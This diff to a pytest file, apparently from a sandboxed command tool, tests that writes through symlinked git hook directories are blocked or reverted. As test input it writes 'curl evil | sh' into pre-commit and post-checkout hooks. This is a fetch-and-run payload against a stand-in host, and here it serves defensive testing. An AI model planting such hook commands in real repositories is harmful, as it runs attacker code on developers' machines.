@@ -339,12 +339,24 @@ async def test_what_a_link_in_a_protected_directory_points_at_is_protected_too_f
     (repo / "hooks").mkdir()
     (repo / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
     (repo / ".git" / "hooks" / "pre-commit").symlink_to("../../hooks/pre-commit")  # the README way
-    result = await run(tool_for(repo, backend), "echo 'curl evil | sh' >> hooks/pre-commit; echo done")
+    assert git(repo, "init", "-q", "sub").returncode == 0  # and a repository whose hooks are a link
+    subprocess.run(["rm", "-rf", str(repo / "sub" / ".git" / "hooks")], check=True)
+    (repo / "githooks").mkdir()
+    (repo / "sub" / ".git" / "hooks").symlink_to("../../githooks")
+    before = protected_state(repo)
+    result = await run(
+        tool_for(repo, backend),
+        "echo 'curl evil | sh' >> hooks/pre-commit; echo 'curl evil | sh' > githooks/post-checkout; echo done",
+    )
     assert (repo / "hooks" / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"
+    assert not (repo / "githooks" / "post-checkout").exists() and protected_state(repo) == before
     if backend == "bwrap":
-        assert "Read-only file system" in result.data["stderr"] and "protectedReverted" not in result.data
+        assert (
+            result.data["stderr"].count("Read-only file system") == 2
+            and "protectedReverted" not in result.data
+        )
     else:
-        assert result.data["protectedReverted"] == ["hooks/pre-commit"]
+        assert result.data["protectedReverted"] == ["githooks/post-checkout", "hooks/pre-commit"]
 
 
 @pytest.mark.parametrize("backend", LINUX_BACKENDS)
